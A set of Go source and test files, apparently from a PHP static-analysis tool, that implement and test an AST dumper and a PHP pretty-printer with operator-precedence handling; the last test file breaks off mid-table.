		dumpExprList(b, n.Args)
		b.WriteByte(')')
	case *EmptyExpr:
		b.WriteString("(empty ")
		dumpNode(b, n.Arg)
		b.WriteByte(')')
	case *ListExpr:
		b.WriteString("(list ")
		dumpExprList(b, n.Targets)
		b.WriteByte(')')
	case *ExitExpr:
		b.WriteString("(exit")
		if n.Arg != nil {
			b.WriteByte(' ')
			dumpNode(b, n.Arg)
		}
		b.WriteByte(')')

	case *ExprStmt:
		b.WriteString("(expr ")
		dumpNode(b, n.X)
		b.WriteByte(')')
	case *EchoStmt:
		b.WriteString("(echo ")
		dumpExprList(b, n.Args)
		b.WriteByte(')')
	case *InlineHTMLStmt:
		fmt.Fprintf(b, "(html %s)", strconv.Quote(n.Text))
	case *IfStmt:
		b.WriteString("(if ")
		dumpNode(b, n.Cond)
		b.WriteByte(' ')
		dumpStmtList(b, n.Then)
		for _, ei := range n.Elseifs {
			b.WriteString(" (elseif ")
			dumpNode(b, ei.Cond)
			b.WriteByte(' ')
			dumpStmtList(b, ei.Body)
			b.WriteByte(')')
		}
		if n.Else != nil {
			b.WriteString(" (else ")
			dumpStmtList(b, n.Else)
			b.WriteByte(')')
		}
		b.WriteByte(')')
	case *WhileStmt:
		b.WriteString("(while ")
		dumpNode(b, n.Cond)
		b.WriteByte(' ')
		dumpStmtList(b, n.Body)
		b.WriteByte(')')
	case *DoWhileStmt:
		b.WriteString("(do ")
		dumpStmtList(b, n.Body)
		b.WriteByte(' ')
		dumpNode(b, n.Cond)
		b.WriteByte(')')
	case *ForStmt:
		b.WriteString("(for (")
		dumpExprList(b, n.Init)
		b.WriteString(") (")
		dumpExprList(b, n.Cond)
		b.WriteString(") (")
		dumpExprList(b, n.Post)
		b.WriteString(") ")
		dumpStmtList(b, n.Body)
		b.WriteByte(')')
	case *ForeachStmt:
		b.WriteString("(foreach ")
		dumpNode(b, n.Subject)
		b.WriteString(" as ")
		if n.KeyVar != nil {
			dumpNode(b, n.KeyVar)
			b.WriteString(" => ")
		}
		if n.ByRef {
			b.WriteByte('&')
		}
		dumpNode(b, n.ValVar)
		b.WriteByte(' ')
		dumpStmtList(b, n.Body)
		b.WriteByte(')')
	case *SwitchStmt:
		b.WriteString("(switch ")
		dumpNode(b, n.Subject)
		for _, c := range n.Cases {
			if c.Match == nil {
				b.WriteString(" (default ")
			} else {
				b.WriteString(" (case ")
				dumpNode(b, c.Match)
				b.WriteByte(' ')
			}
			dumpStmtList(b, c.Body)
			b.WriteByte(')')
		}
		b.WriteByte(')')
	case *BreakStmt:
		fmt.Fprintf(b, "(break %d)", n.Level)
	case *ContinueStmt:
		fmt.Fprintf(b, "(continue %d)", n.Level)
	case *ReturnStmt:
		b.WriteString("(return")
		if n.X != nil {
			b.WriteByte(' ')
			dumpNode(b, n.X)
		}
		b.WriteByte(')')
	case *GlobalStmt:
		fmt.Fprintf(b, "(global %s)", strings.Join(n.Names, " "))
	case *StaticStmt:
		b.WriteString("(staticvar")
		for _, v := range n.Vars {
			fmt.Fprintf(b, " $%s", v.Name)
			if v.Init != nil {
				b.WriteByte('=')
				dumpNode(b, v.Init)
			}
		}
		b.WriteByte(')')
	case *UnsetStmt:
		b.WriteString("(unset ")
		dumpExprList(b, n.Args)
		b.WriteByte(')')
	case *FunctionDecl:
		fmt.Fprintf(b, "(function %s (", n.Name)
		for i, p := range n.Params {
			if i > 0 {
				b.WriteByte(' ')
			}
			if p.ByRef {
				b.WriteByte('&')
			}
			fmt.Fprintf(b, "$%s", p.Name)
			if p.Default != nil {
				b.WriteByte('=')
				dumpNode(b, p.Default)
			}
		}
		b.WriteString(") ")
		dumpStmtList(b, n.Body)
		b.WriteByte(')')
	case *ClassDecl:
		fmt.Fprintf(b, "(class %s", n.Name)
		if n.Parent != "" {
			fmt.Fprintf(b, " extends %s", n.Parent)
		}
		for _, p := range n.Props {
			fmt.Fprintf(b, " (var $%s", p.Name)
			if p.Default != nil {
				b.WriteByte('=')
				dumpNode(b, p.Default)
			}
			b.WriteByte(')')
		}
		for _, m := range n.Methods {
			b.WriteByte(' ')
			dumpNode(b, m)
		}
		b.WriteByte(')')
	case *BlockStmt:
		b.WriteString("(block ")
		dumpStmtList(b, n.Body)
		b.WriteByte(')')
	case *NopStmt:
		b.WriteString("(nop)")

	default:
		fmt.Fprintf(b, "(UNKNOWN %T)", n)
	}
}
