package ast

import (
	"fmt"
	"strings"

	"webssari/internal/php/token"
)

// PrintFile renders a parsed file back to PHP source. The output is
// normalized (canonical spacing, braces everywhere) rather than
// byte-identical to the input; reparsing the output yields a structurally
// identical AST, a property the parser tests check.
func PrintFile(f *File) string {
	p := &printer{}
	p.stmts(f.Stmts, 0)
	p.closePHP()
	return p.b.String()
}

// PrintExpr renders a single expression as PHP source.
func PrintExpr(e Expr) string {
	p := &printer{inPHP: true}
	p.expr(e, precLowest)
	return p.b.String()
}

// PrintStmt renders a single statement as PHP source.
func PrintStmt(s Stmt) string {
	p := &printer{inPHP: true}
	p.stmt(s, 0)
	return strings.TrimRight(p.b.String(), "\n")
}

type printer struct {
	b     strings.Builder
	inPHP bool
}

func (p *printer) openPHP() {
	if !p.inPHP {
		p.b.WriteString("<?php\n")
		p.inPHP = true
	}
}

func (p *printer) closePHP() {
	if p.inPHP {
		p.b.WriteString("?>")
		p.inPHP = false
	}
}

func (p *printer) indent(depth int) {
	for i := 0; i < depth; i++ {
		p.b.WriteString("    ")
	}
}

func (p *printer) stmts(list []Stmt, depth int) {
	for _, s := range list {
		p.stmt(s, depth)
	}
}

func (p *printer) stmt(s Stmt, depth int) {
	if _, ok := s.(*InlineHTMLStmt); !ok {
		p.openPHP()
	}
	switch s := s.(type) {
	case *ExprStmt:
		p.indent(depth)
		p.expr(s.X, precLowest)
		p.b.WriteString(";\n")
	case *EchoStmt:
		p.indent(depth)
		p.b.WriteString("echo ")
		p.exprList(s.Args)
		p.b.WriteString(";\n")
	case *InlineHTMLStmt:
		p.closePHP()
		p.b.WriteString(s.Text)
	case *IfStmt:
		p.indent(depth)
		p.b.WriteString("if (")
		p.expr(s.Cond, precLowest)
		p.b.WriteString(") {\n")
		p.stmts(s.Then, depth+1)
		p.indent(depth)
		p.b.WriteString("}")
		for _, ei := range s.Elseifs {
			p.b.WriteString(" elseif (")
			p.expr(ei.Cond, precLowest)
			p.b.WriteString(") {\n")
			p.stmts(ei.Body, depth+1)
			p.indent(depth)
			p.b.WriteString("}")
		}
		if s.Else != nil {
			p.b.WriteString(" else {\n")
			p.stmts(s.Else, depth+1)
			p.indent(depth)
			p.b.WriteString("}")
		}
		p.b.WriteString("\n")
	case *WhileStmt:
		p.indent(depth)
		p.b.WriteString("while (")
		p.expr(s.Cond, precLowest)
		p.b.WriteString(") {\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("}\n")
	case *DoWhileStmt:
		p.indent(depth)
		p.b.WriteString("do {\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("} while (")
		p.expr(s.Cond, precLowest)
		p.b.WriteString(");\n")
	case *ForStmt:
		p.indent(depth)
		p.b.WriteString("for (")
		p.exprList(s.Init)
		p.b.WriteString("; ")
		p.exprList(s.Cond)
		p.b.WriteString("; ")
		p.exprList(s.Post)
		p.b.WriteString(") {\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("}\n")
	case *ForeachStmt:
		p.indent(depth)
		p.b.WriteString("foreach (")
		p.expr(s.Subject, precLowest)
		p.b.WriteString(" as ")
		if s.KeyVar != nil {
			p.expr(s.KeyVar, precLowest)
			p.b.WriteString(" => ")
		}
		if s.ByRef {
			p.b.WriteByte('&')
		}
		p.expr(s.ValVar, precLowest)
		p.b.WriteString(") {\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("}\n")
	case *SwitchStmt:
		p.indent(depth)
		p.b.WriteString("switch (")
		p.expr(s.Subject, precLowest)
		p.b.WriteString(") {\n")
		for _, c := range s.Cases {
			p.indent(depth + 1)
			if c.Match == nil {
				p.b.WriteString("default:\n")
			} else {
				p.b.WriteString("case ")
				p.expr(c.Match, precLowest)
				p.b.WriteString(":\n")
			}
			p.stmts(c.Body, depth+2)
		}
		p.indent(depth)
		p.b.WriteString("}\n")
	case *BreakStmt:
		p.indent(depth)
		if s.Level > 1 {
			fmt.Fprintf(&p.b, "break %d;\n", s.Level)
		} else {
			p.b.WriteString("break;\n")
		}
	case *ContinueStmt:
		p.indent(depth)
		if s.Level > 1 {
			fmt.Fprintf(&p.b, "continue %d;\n", s.Level)
		} else {
			p.b.WriteString("continue;\n")
		}
	case *ReturnStmt:
		p.indent(depth)
		p.b.WriteString("return")
		if s.X != nil {
			p.b.WriteByte(' ')
			p.expr(s.X, precLowest)
		}
		p.b.WriteString(";\n")
	case *GlobalStmt:
		p.indent(depth)
		p.b.WriteString("global ")
		for i, n := range s.Names {
			if i > 0 {
				p.b.WriteString(", ")
			}
			p.b.WriteString("$" + n)
		}
		p.b.WriteString(";\n")
	case *StaticStmt:
		p.indent(depth)
		p.b.WriteString("static ")
		for i, v := range s.Vars {
			if i > 0 {
				p.b.WriteString(", ")
			}
			p.b.WriteString("$" + v.Name)
			if v.Init != nil {
				p.b.WriteString(" = ")
				p.expr(v.Init, precAssign)
			}
		}
		p.b.WriteString(";\n")
	case *UnsetStmt:
		p.indent(depth)
		p.b.WriteString("unset(")
		p.exprList(s.Args)
		p.b.WriteString(");\n")
	case *FunctionDecl:
		p.indent(depth)
		fmt.Fprintf(&p.b, "function %s(", s.Name)
		p.params(s.Params)
		p.b.WriteString(") {\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("}\n")
	case *ClassDecl:
		p.indent(depth)
		fmt.Fprintf(&p.b, "class %s", s.Name)
		if s.Parent != "" {
			fmt.Fprintf(&p.b, " extends %s", s.Parent)
		}
		p.b.WriteString(" {\n")
		for _, pr := range s.Props {
			p.indent(depth + 1)
			fmt.Fprintf(&p.b, "var $%s", pr.Name)
			if pr.Default != nil {
				p.b.WriteString(" = ")
				p.expr(pr.Default, precAssign)
			}
			p.b.WriteString(";\n")
		}
		for _, m := range s.Methods {
			p.stmt(m, depth+1)
		}
		p.indent(depth)
		p.b.WriteString("}\n")
	case *BlockStmt:
		p.indent(depth)
		p.b.WriteString("{\n")
		p.stmts(s.Body, depth+1)
		p.indent(depth)
		p.b.WriteString("}\n")
	case *NopStmt:
		p.indent(depth)
		p.b.WriteString(";\n")
	default:
		fmt.Fprintf(&p.b, "/* unprintable %T */\n", s)
	}
}

func (p *printer) params(params []Param) {
	for i, pr := range params {
		if i > 0 {
			p.b.WriteString(", ")
		}
		if pr.ByRef {
			p.b.WriteByte('&')
		}
		p.b.WriteString("$" + pr.Name)
		if pr.Default != nil {
			p.b.WriteString(" = ")
			p.expr(pr.Default, precAssign)
		}
	}
}

func (p *printer) exprList(list []Expr) {
	for i, e := range list {
		if i > 0 {
			p.b.WriteString(", ")
		}
		p.expr(e, precAssign)
	}
}

// Operator precedence levels for parenthesization, loosest to tightest.
const (
	precLowest     = iota
	precLogicalOr2 // or
	precLogicalXor // xor
	precLogicalAnd2
	precAssign
	precTernary
	precOrOr
	precAndAnd
	precBitOr
	precBitXor
	precBitAnd
	precEquality
	precRelational
	precShift
	precAdditive
	precMultiplicative
	precUnary
	precPostfix
)

func binaryPrec(op token.Kind) int {
	switch op {
	case token.KwOr:
		return precLogicalOr2
	case token.KwXor:
		return precLogicalXor
	case token.KwAnd:
		return precLogicalAnd2
	case token.OrOr:
		return precOrOr
	case token.AndAnd:
		return precAndAnd
	case token.Pipe:
		return precBitOr
	case token.Caret:
		return precBitXor
	case token.Amp:
		return precBitAnd
	case token.Eq, token.NotEq, token.Identical, token.NotIdent:
		return precEquality
	case token.Lt, token.Gt, token.LtEq, token.GtEq:
		return precRelational
	case token.Shl, token.Shr:
		return precShift
	case token.Plus, token.Minus, token.Dot:
		return precAdditive
	case token.Star, token.Slash, token.Percent:
		return precMultiplicative
	default:
		return precLowest
	}
}

func (p *printer) expr(e Expr, outer int) {
	switch e := e.(type) {
	case nil:
		// Nothing: used for absent optional children.
	case *IntLit:
		p.b.WriteString(e.Raw)
	case *FloatLit:
		p.b.WriteString(e.Raw)
	case *StringLit:
		p.b.WriteString(quoteSingle(e.Value))
	case *BoolLit:
		if e.Value {
			p.b.WriteString("true")
		} else {
			p.b.WriteString("false")
		}
	case *NullLit:
		p.b.WriteString("null")
	case *Interp:
		// Re-render as an explicit concatenation: exact and unambiguous.
		p.paren(outer > precAdditive, func() {
			for i, part := range e.Parts {
				if i > 0 {
					p.b.WriteString(" . ")
				}
				p.expr(part, precMultiplicative)
			}
		})
	case *ArrayLit:
		p.b.WriteString("array(")
		for i, it := range e.Items {
			if i > 0 {
				p.b.WriteString(", ")
			}
			if it.Key != nil {
				p.expr(it.Key, precAssign)
				p.b.WriteString(" => ")
			}
			p.expr(it.Val, precAssign)
		}
		p.b.WriteByte(')')
	case *ConstFetch:
		p.b.WriteString(e.Name)
	case *Var:
		p.b.WriteString("$" + e.Name)
	case *VarVar:
		p.b.WriteString("$")
		if v, ok := e.Inner.(*Var); ok {
			p.b.WriteString("$" + v.Name)
		} else {
			p.b.WriteByte('{')
			p.expr(e.Inner, precLowest)
			p.b.WriteByte('}')
		}
	case *Index:
		p.expr(e.Arr, precPostfix)
		p.b.WriteByte('[')
		if e.Key != nil {
			p.expr(e.Key, precLowest)
		}
		p.b.WriteByte(']')
	case *Prop:
		p.expr(e.Obj, precPostfix)
		p.b.WriteString("->" + e.Name)
	case *Cast:
		p.paren(outer > precUnary, func() {
			p.b.WriteString("(" + e.To + ")")
			p.expr(e.X, precUnary)
		})
	case *Unary:
		if e.Postfix {
			p.paren(outer > precPostfix, func() {
				p.expr(e.X, precPostfix)
				p.b.WriteString(e.Op.String())
			})
			return
		}
		p.paren(outer > precUnary, func() {
			p.b.WriteString(e.Op.String())
			p.expr(e.X, precUnary)
		})
	case *Binary:
		prec := binaryPrec(e.Op)
		p.paren(outer > prec, func() {
			p.expr(e.L, prec)
			p.b.WriteString(" " + e.Op.String() + " ")
			p.expr(e.R, prec+1)
		})
	case *Assign:
		p.paren(outer > precAssign, func() {
			p.expr(e.LHS, precPostfix)
			if e.ByRef {
				p.b.WriteString(" = &")
			} else {
				p.b.WriteString(" " + e.Op.String() + " ")
			}
			p.expr(e.RHS, precAssign)
		})
	case *Ternary:
		p.paren(outer > precTernary, func() {
			p.expr(e.Cond, precTernary+1)
			if e.Then == nil {
				p.b.WriteString(" ?: ")
			} else {
				p.b.WriteString(" ? ")
				p.expr(e.Then, precTernary+1)
				p.b.WriteString(" : ")
			}
			p.expr(e.Else, precTernary)
		})
	case *Call:
		p.expr(e.Func, precPostfix)
		p.b.WriteByte('(')
		p.exprList(e.Args)
		p.b.WriteByte(')')
	case *MethodCall:
		p.expr(e.Obj, precPostfix)
		p.b.WriteString("->" + e.Name + "(")
		p.exprList(e.Args)
		p.b.WriteByte(')')
	case *StaticCall:
		p.b.WriteString(e.Class + "::" + e.Name + "(")
		p.exprList(e.Args)
		p.b.WriteByte(')')
	case *New:
		p.paren(outer > precUnary, func() {
			p.b.WriteString("new " + e.Class + "(")
			p.exprList(e.Args)
			p.b.WriteByte(')')
		})
	case *IncludeExpr:
		p.paren(outer > precLowest, func() {
			p.b.WriteString(e.Kind.String() + " ")
			p.expr(e.Path, precAssign)
		})
	case *IssetExpr:
		p.b.WriteString("isset(")
		p.exprList(e.Args)
		p.b.WriteByte(')')
	case *EmptyExpr:
		p.b.WriteString("empty(")
		p.expr(e.Arg, precLowest)
		p.b.WriteByte(')')
	case *ListExpr:
		p.b.WriteString("list(")
		for i, t := range e.Targets {
			if i > 0 {
				p.b.WriteString(", ")
			}
			if t != nil {
				p.expr(t, precAssign)
			}
		}
		p.b.WriteByte(')')
	case *ExitExpr:
		p.b.WriteString("exit")
		if e.Arg != nil {
			p.b.WriteByte('(')
			p.expr(e.Arg, precLowest)
			p.b.WriteByte(')')
		}
	default:
		fmt.Fprintf(&p.b, "/* unprintable %T */", e)
	}
}

func (p *printer) paren(need bool, body func()) {
	if need {
		p.b.WriteByte('(')
	}
	body()
	if need {
		p.b.WriteByte(')')
	}
}

// quoteSingle renders a string as a PHP single-quoted literal.
func quoteSingle(s string) string {
	var b strings.Builder
	b.Grow(len(s) + 2)
	b.WriteByte('\'')
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'', '\\':
			b.WriteByte('\\')
		}
		b.WriteByte(s[i])
	}
	b.WriteByte('\'')
	return b.String()
}
