package ast

import (
	"strings"
	"testing"

	"webssari/internal/php/token"
)

func v(name string) *Var { return &Var{Name: name} }

func TestPrintControlFlowStatements(t *testing.T) {
	ifStmt := &IfStmt{
		Cond: v("a"),
		Then: []Stmt{&EchoStmt{Args: []Expr{&IntLit{Raw: "1"}}}},
		Elseifs: []ElseifClause{
			{Cond: v("b"), Body: []Stmt{&EchoStmt{Args: []Expr{&IntLit{Raw: "2"}}}}},
		},
		Else: []Stmt{&EchoStmt{Args: []Expr{&IntLit{Raw: "3"}}}},
	}
	out := PrintStmt(ifStmt)
	for _, frag := range []string{"if ($a) {", "} elseif ($b) {", "} else {", "echo 1;", "echo 2;", "echo 3;"} {
		if !strings.Contains(out, frag) {
			t.Errorf("if output missing %q:\n%s", frag, out)
		}
	}

	whileStmt := &WhileStmt{Cond: v("c"), Body: []Stmt{&NopStmt{}}}
	if out := PrintStmt(whileStmt); !strings.Contains(out, "while ($c) {") {
		t.Errorf("while output: %s", out)
	}

	doStmt := &DoWhileStmt{Body: []Stmt{&NopStmt{}}, Cond: v("c")}
	if out := PrintStmt(doStmt); !strings.Contains(out, "do {") || !strings.Contains(out, "} while ($c);") {
		t.Errorf("do-while output: %s", out)
	}

	forStmt := &ForStmt{
		Init: []Expr{&Assign{Op: token.Assign, LHS: v("i"), RHS: &IntLit{Raw: "0"}}},
		Cond: []Expr{&Binary{Op: token.Lt, L: v("i"), R: &IntLit{Raw: "9"}}},
		Post: []Expr{&Unary{Op: token.Inc, X: v("i"), Postfix: true}},
		Body: []Stmt{&NopStmt{}},
	}
	if out := PrintStmt(forStmt); !strings.Contains(out, "for ($i = 0; $i < 9; $i++) {") {
		t.Errorf("for output: %s", out)
	}

	feStmt := &ForeachStmt{
		Subject: v("rows"), KeyVar: v("k"), ValVar: v("val"), ByRef: true,
		Body: []Stmt{&NopStmt{}},
	}
	if out := PrintStmt(feStmt); !strings.Contains(out, "foreach ($rows as $k => &$val) {") {
		t.Errorf("foreach output: %s", out)
	}

	swStmt := &SwitchStmt{
		Subject: v("m"),
		Cases: []SwitchCase{
			{Match: &IntLit{Raw: "1"}, Body: []Stmt{&BreakStmt{Level: 1}}},
			{Match: nil, Body: []Stmt{&ContinueStmt{Level: 1}}},
		},
	}
	out = PrintStmt(swStmt)
	for _, frag := range []string{"switch ($m) {", "case 1:", "default:", "break;", "continue;"} {
		if !strings.Contains(out, frag) {
			t.Errorf("switch output missing %q:\n%s", frag, out)
		}
	}
}

func TestPrintDeclarations(t *testing.T) {
	fn := &FunctionDecl{
		Name: "add",
		Params: []Param{
			{Name: "a"},
			{Name: "b", Default: &IntLit{Raw: "1"}},
			{Name: "c", ByRef: true},
		},
		Body: []Stmt{&ReturnStmt{X: &Binary{Op: token.Plus, L: v("a"), R: v("b")}}},
	}
	out := PrintStmt(fn)
	for _, frag := range []string{"function add($a, $b = 1, &$c) {", "return $a + $b;"} {
		if !strings.Contains(out, frag) {
			t.Errorf("function output missing %q:\n%s", frag, out)
		}
	}

	cls := &ClassDecl{
		Name:   "Conn",
		Parent: "Base",
		Props:  []PropDecl{{Name: "dsn", Default: &StringLit{Value: "x"}}, {Name: "raw"}},
		Methods: []*FunctionDecl{
			{Name: "q", Params: []Param{{Name: "s"}}, Body: []Stmt{&ReturnStmt{X: v("s")}}},
		},
	}
	out = PrintStmt(cls)
	for _, frag := range []string{"class Conn extends Base {", "var $dsn = 'x';", "var $raw;", "function q($s) {"} {
		if !strings.Contains(out, frag) {
			t.Errorf("class output missing %q:\n%s", frag, out)
		}
	}

	blk := &BlockStmt{Body: []Stmt{&NopStmt{}}}
	if out := PrintStmt(blk); !strings.Contains(out, "{") {
		t.Errorf("block output: %s", out)
	}
}

func TestPrintExprCoverage(t *testing.T) {
	cases := []struct {
		expr Expr
		want string
	}{
		{&FloatLit{Raw: "2.5"}, "2.5"},
		{&Interp{Parts: []Expr{&StringLit{Value: "a"}, v("x")}}, "'a' . $x"},
		{&Index{Arr: v("a"), Key: &StringLit{Value: "k"}}, "$a['k']"},
		{&Prop{Obj: v("o"), Name: "p"}, "$o->p"},
		{&Unary{Op: token.Not, X: v("b")}, "!$b"},
		{&Unary{Op: token.Dec, X: v("n"), Postfix: true}, "$n--"},
		{&Binary{Op: token.KwOr, L: v("a"), R: v("b")}, "$a or $b"},
		{&Binary{Op: token.KwAnd, L: v("a"), R: v("b")}, "$a and $b"},
		{&Binary{Op: token.KwXor, L: v("a"), R: v("b")}, "$a xor $b"},
		{&Binary{Op: token.Shl, L: v("a"), R: &IntLit{Raw: "2"}}, "$a << 2"},
		{&Binary{Op: token.Amp, L: v("a"), R: v("b")}, "$a & $b"},
		{&Binary{Op: token.Pipe, L: v("a"), R: v("b")}, "$a | $b"},
		{&Binary{Op: token.Caret, L: v("a"), R: v("b")}, "$a ^ $b"},
		{&Ternary{Cond: v("c"), Then: v("t"), Else: v("e")}, "$c ? $t : $e"},
		{&Call{Func: &ConstFetch{Name: "f"}, Args: []Expr{v("x"), v("y")}}, "f($x, $y)"},
		{&MethodCall{Obj: v("o"), Name: "m", Args: []Expr{v("a")}}, "$o->m($a)"},
		{&IssetExpr{Args: []Expr{v("x"), v("y")}}, "isset($x, $y)"},
		{&EmptyExpr{Arg: v("x")}, "empty($x)"},
		{&ExitExpr{}, "exit"},
		{&ArrayLit{Items: []ArrayItem{{Key: &StringLit{Value: "k"}, Val: v("v")}, {Val: &IntLit{Raw: "3"}}}},
			"array('k' => $v, 3)"},
		{&Assign{Op: token.ConcatAssign, LHS: v("q"), RHS: v("r")}, "$q .= $r"},
	}
	for i, c := range cases {
		if got := PrintExpr(c.expr); got != c.want {
			t.Errorf("case %d: PrintExpr = %q, want %q", i, got, c.want)
		}
	}
}

func TestDumpControlFlow(t *testing.T) {
	ifStmt := &IfStmt{
		Cond:    v("a"),
		Then:    []Stmt{&NopStmt{}},
		Elseifs: []ElseifClause{{Cond: v("b"), Body: nil}},
		Else:    []Stmt{},
	}
	got := Dump(ifStmt)
	want := "(if $a [(nop)] (elseif $b []) (else []))"
	if got != want {
		t.Errorf("Dump(if) = %q, want %q", got, want)
	}

	fe := &ForeachStmt{Subject: v("m"), ValVar: v("v"), Body: nil}
	if got := Dump(fe); got != "(foreach $m as $v [])" {
		t.Errorf("Dump(foreach) = %q", got)
	}

	fr := &ForStmt{Init: []Expr{v("i")}, Body: nil}
	if got := Dump(fr); got != "(for ($i) () () [])" {
		t.Errorf("Dump(for) = %q", got)
	}

	w := &WhileStmt{Cond: v("c"), Body: []Stmt{&BreakStmt{Level: 1}}}
	if got := Dump(w); got != "(while $c [(break 1)])" {
		t.Errorf("Dump(while) = %q", got)
	}

	fn := &FunctionDecl{Name: "f", Params: []Param{{Name: "x", ByRef: true, Default: &NullLit{}}}}
	if got := Dump(fn); got != "(function f (&$x=(null)) [])" {
		t.Errorf("Dump(function) = %q", got)
	}

	cls := &ClassDecl{Name: "C", Parent: "P",
		Props:   []PropDecl{{Name: "p", Default: &IntLit{Raw: "1"}}},
		Methods: []*FunctionDecl{{Name: "m"}}}
	if got := Dump(cls); got != "(class C extends P (var $p=(int 1)) (function m () []))" {
		t.Errorf("Dump(class) = %q", got)
	}

	inc := &IncludeExpr{Kind: token.KwInclude, Path: &StringLit{Value: "f"}}
	if got := Dump(inc); got != `(include (str "f"))` {
		t.Errorf("Dump(include) = %q", got)
	}
}
