package ast

import (
	"strings"
	"testing"

	"webssari/internal/php/token"
)

func sp(a, b int) Span {
	return Span{Start: token.Pos{File: "t.php", Line: 1, Col: a + 1, Offset: a}, StopOff: b}
}

func TestSpanAccessors(t *testing.T) {
	n := &Var{Span: sp(3, 7), Name: "x"}
	if n.Pos().Offset != 3 || n.End() != 7 {
		t.Fatalf("span = %d..%d", n.Pos().Offset, n.End())
	}
}

func TestLowerName(t *testing.T) {
	if LowerName("MySQL_Query") != "mysql_query" {
		t.Fatalf("LowerName mixed case failed")
	}
	if LowerName("already_lower") != "already_lower" {
		t.Fatalf("LowerName identity failed")
	}
}

func TestCallFuncName(t *testing.T) {
	c := &Call{Func: &ConstFetch{Name: "EcHo"}}
	if c.FuncName() != "echo" {
		t.Fatalf("FuncName = %q", c.FuncName())
	}
	dyn := &Call{Func: &Var{Name: "f"}}
	if dyn.FuncName() != "" {
		t.Fatalf("dynamic FuncName = %q", dyn.FuncName())
	}
}

// TestDumpAllNodes drives Dump across every node type built by hand.
func TestDumpAllNodes(t *testing.T) {
	cases := []struct {
		node Node
		want string
	}{
		{&IntLit{Raw: "0x1F", Value: 31}, "(int 0x1F)"},
		{&FloatLit{Raw: "1.5", Value: 1.5}, "(float 1.5)"},
		{&StringLit{Value: "a\"b"}, `(str "a\"b")`},
		{&BoolLit{Value: true}, "(bool true)"},
		{&NullLit{}, "(null)"},
		{&ConstFetch{Name: "PHP_SELF"}, "(const PHP_SELF)"},
		{&Var{Name: "x"}, "$x"},
		{&VarVar{Inner: &Var{Name: "n"}}, "(varvar $n)"},
		{&Index{Arr: &Var{Name: "a"}, Key: nil}, "(index $a nil)"},
		{&Prop{Obj: &Var{Name: "o"}, Name: "p"}, "(prop $o p)"},
		{&Unary{Op: token.Not, X: &Var{Name: "x"}}, `(pre"!" $x)`},
		{&Unary{Op: token.Inc, X: &Var{Name: "x"}, Postfix: true}, `(post"++" $x)`},
		{&Ternary{Cond: &Var{Name: "c"}, Then: nil, Else: &IntLit{Raw: "2"}},
			"(?: $c nil (int 2))"},
		{&MethodCall{Obj: &Var{Name: "o"}, Name: "m"}, "(method $o m)"},
		{&StaticCall{Class: "C", Name: "m", Args: []Expr{&Var{Name: "a"}}},
			"(static C::m $a)"},
		{&New{Class: "C"}, "(new C)"},
		{&IssetExpr{Args: []Expr{&Var{Name: "x"}}}, "(isset $x)"},
		{&EmptyExpr{Arg: &Var{Name: "x"}}, "(empty $x)"},
		{&ListExpr{Targets: []Expr{&Var{Name: "a"}, &Var{Name: "b"}}}, "(list $a $b)"},
		{&ExitExpr{}, "(exit)"},
		{&ExitExpr{Arg: &IntLit{Raw: "1"}}, "(exit (int 1))"},
		{&ArrayLit{Items: []ArrayItem{{Val: &IntLit{Raw: "1"}}, {Key: &StringLit{Value: "k"}, Val: &IntLit{Raw: "2"}}}},
			`(array (int 1) ((str "k") => (int 2)))`},
		{&Interp{}, `(str "")`},
		{&Interp{Parts: []Expr{&Var{Name: "x"}}}, "$x"},
		{&Interp{Parts: []Expr{&StringLit{Value: "a"}, &Var{Name: "x"}, &StringLit{Value: "b"}}},
			`("." ("." (str "a") $x) (str "b"))`},
		{&InlineHTMLStmt{Text: "<b>"}, `(html "<b>")`},
		{&BreakStmt{Level: 2}, "(break 2)"},
		{&ContinueStmt{Level: 1}, "(continue 1)"},
		{&ReturnStmt{}, "(return)"},
		{&GlobalStmt{Names: []string{"a", "b"}}, "(global a b)"},
		{&StaticStmt{Vars: []StaticVar{{Name: "n", Init: &IntLit{Raw: "0"}}, {Name: "m"}}},
			"(staticvar $n=(int 0) $m)"},
		{&UnsetStmt{Args: []Expr{&Var{Name: "a"}}}, "(unset $a)"},
		{&NopStmt{}, "(nop)"},
		{&BlockStmt{Body: []Stmt{&NopStmt{}}}, "(block [(nop)])"},
		{&DoWhileStmt{Body: []Stmt{&NopStmt{}}, Cond: &Var{Name: "c"}}, "(do [(nop)] $c)"},
		{&SwitchStmt{Subject: &Var{Name: "s"}, Cases: []SwitchCase{{Match: nil, Body: nil}}},
			"(switch $s (default []))"},
	}
	for i, c := range cases {
		if got := Dump(c.node); got != c.want {
			t.Errorf("case %d: Dump = %q, want %q", i, got, c.want)
		}
	}
}

// TestPrintAllStatements drives the PHP printer over hand-built nodes and
// checks the emitted source fragments.
func TestPrintAllStatements(t *testing.T) {
	cases := []struct {
		stmt Stmt
		want string
	}{
		{&EchoStmt{Args: []Expr{&StringLit{Value: "hi"}}}, "echo 'hi';"},
		{&BreakStmt{Level: 1}, "break;"},
		{&BreakStmt{Level: 3}, "break 3;"},
		{&ContinueStmt{Level: 2}, "continue 2;"},
		{&ReturnStmt{X: &Var{Name: "v"}}, "return $v;"},
		{&GlobalStmt{Names: []string{"g"}}, "global $g;"},
		{&UnsetStmt{Args: []Expr{&Var{Name: "a"}, &Var{Name: "b"}}}, "unset($a, $b);"},
		{&NopStmt{}, ";"},
		{&StaticStmt{Vars: []StaticVar{{Name: "n", Init: &IntLit{Raw: "1"}}}}, "static $n = 1;"},
	}
	for i, c := range cases {
		got := PrintStmt(c.stmt)
		if !strings.Contains(got, c.want) {
			t.Errorf("case %d: PrintStmt = %q, want fragment %q", i, got, c.want)
		}
	}
}

func TestPrintExprForms(t *testing.T) {
	cases := []struct {
		expr Expr
		want string
	}{
		{&StringLit{Value: "it's"}, `'it\'s'`},
		{&BoolLit{Value: false}, "false"},
		{&NullLit{}, "null"},
		{&Assign{Op: token.Assign, LHS: &Var{Name: "a"}, RHS: &Var{Name: "b"}, ByRef: true},
			"$a = &$b"},
		{&Ternary{Cond: &Var{Name: "c"}, Else: &IntLit{Raw: "0"}}, "$c ?: 0"},
		{&VarVar{Inner: &Var{Name: "n"}}, "$$n"},
